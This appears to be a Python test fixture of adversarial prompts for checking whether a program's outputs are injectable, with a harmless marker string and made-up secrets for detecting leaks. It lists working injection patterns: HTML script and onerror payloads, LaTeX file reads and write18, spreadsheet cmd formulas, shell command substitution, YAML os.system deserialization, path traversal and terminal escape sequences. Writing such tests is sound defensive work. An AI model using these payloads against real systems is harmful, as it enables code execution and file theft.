"""Prompts that are more than words to some program: HTML, LaTeX, Markdown, spreadsheets, shells, YAML, terminals, paths.

`MARK` stands in each that would make something of its own, so that whoever reads an output back can look for it.
"""

MARK = "zqx"

HTML = [
    f"<script>{MARK}()</script>",
    f"</script><script>{MARK}()</script>",
    f'"><img src=x onerror="{MARK}()">',
    f"'><svg/onload={MARK}()>",
    f"</title></style></textarea></figcaption><{MARK}>",
    f"<!-- {MARK} --><b {MARK}=1>bold</b>",
    f"<!--><script>{MARK}</script>-->",
    f"]]><{MARK}/>",
    f"&lt;script&gt;{MARK}&lt;/script&gt; &#x3c;{MARK}&#x3e;",
    f"<a href='javascript:{MARK}()'>a photo of a ring</a>",
    f"<iframe srcdoc='<script>{MARK}()</script>'>",
    f"<base href=//{MARK}><link rel=stylesheet href=//{MARK}>",
    f'<meta http-equiv=refresh content="0;url=//{MARK}">',
    f"{{{{ config.{MARK} }}}} {{% raw %}} {{# {MARK} #}}",
    "\\u003cscript\\u003e ${7*7} `7*7` #{7*7} <%= 7*7 %>",
    f"red ring\u2028{MARK}()\u2029//",
]
LATEX = [
    rf"\input{{/etc/passwd}} \{MARK}",
    rf"\write18{{touch {MARK}}} \def\{MARK}{{x}}",
    rf"}}\end{{tabular}}\{MARK}{{",
    rf"$x^2$ $$ \immediate\{MARK} % & # _ ^ ~",
    rf"[1cm] \\ * \\[2em] & {MARK}",
    r"^^5cinput{x} \\\\ {{{ }}} \begin{verbatim}",
]
MARKDOWN = [
    f"| a | b |\n|---|---|\n| {MARK} |",
    f"[{MARK}](javascript:alert(1)) ![{MARK}](http://{MARK}/x.png)",
    f"# {MARK}\n* a\n1. b\n> c\n---\n```\n{MARK}",
    f"**bold** _under_ ~~out~~ `code` <http://{MARK}> https://{MARK}/ [^1] $math$",
    f"<!-- end of results --> {MARK}",
]
SHEETS = [
    "=1+1",
    f"=cmd|'/C {MARK}'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    f"@SUM(1+1)*{MARK}",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    f'=HYPERLINK("http://{MARK}?x="&A1,"click")',
    f'a ring;=1+{MARK};"=1"',
    'quote " comma , semicolon ; = end',
    "＝1＋1",
    "'=1+1",
]
SHELL = [
    f"$(touch {MARK}) `touch {MARK}` ; touch {MARK} && touch {MARK} | tee {MARK}",
    f"'; touch {MARK}; '",
    f'"; touch {MARK}; "',
    f"a ring > {MARK} 2>&1 < /dev/null & !! ~ * ? [a-z]",
    "--help",
    "-rf /",
    "{wildcards.x} {input} {params} {{x}} {0} {} %s %(x)s %n",
    "$HOME ${IFS} %PATH% !event",
]
YAML = [
    f"key: value\n- {MARK}",
    f"!!python/object/apply:os.system ['touch {MARK}']",
    "&a [*a, *a] *a",
    f"---\nlicense: {MARK}\n---\n",
    "? complex : key # comment",
    "yes",
    "null",
    "2020-01-01",
    "1e1000",
    "NaN",
]
TERMINAL = [
    f"\x1b[2J\x1b[31m{MARK}\x1b[0m",
    f"\x1b]0;{MARK}\x07 \x1b]8;;http://{MARK}\x1b\\link\x1b]8;;\x1b\\",
    f"a ring\nerror: {MARK}\nTraceback (most recent call last):",
    f"a ring\r{MARK} overwritten\b\b\b",
    "\x9b31m \x85 \x7f \x00 nothing \x01\x02\x1f",
    "[red]x[/red] [link=http://x]y[/link] [/]",
]
UNICODE = [
    "right to left \u202ecod.exe\u202c and \u2066isolated\u2069",
    "zero\u200bwidth\u200djoin \ufeff bom \u00ad soft",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033da\u0301\u0308l\u0300g\u0302o\u0303",
    "tags \U000e0041\U000e0042 and emoji \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\ufffe \uffff \U0010ffff noncharacters",
    "ﷺ" * 40,
    "a" * 3000,
    "word " * 900,
    "日本語の指輪 красное кольцо حلقة",
]
PATHS = [
    f"../../{MARK}",
    f"/etc/{MARK}",
    f"..\\..\\{MARK}",
    "CON",
    ".",
    "..",
    "file:///etc/passwd",
    f"results/{MARK}\x00.png",
    f"~/{MARK}",
    "a/b/c.json",
]
NUMBERS = ["0", "-1", "1.5", "00", "1_000", "٣", "∞", "-0.0", "true"]

PROMPTS = [*HTML, *LATEX, *MARKDOWN, *SHEETS, *SHELL, *YAML, *TERMINAL, *UNICODE, *PATHS, *NUMBERS]

# Secrets as the environment may hold them: made up, and looked for in every file that is made.
SECRETS = {
    "HF_TOKEN": "hf_madeupmadeupmadeup7",
    "WANDB_API_KEY": "madeupkey0123456789abcdef",
    "MY_PASSWORD": "correcthorsebattery",
}
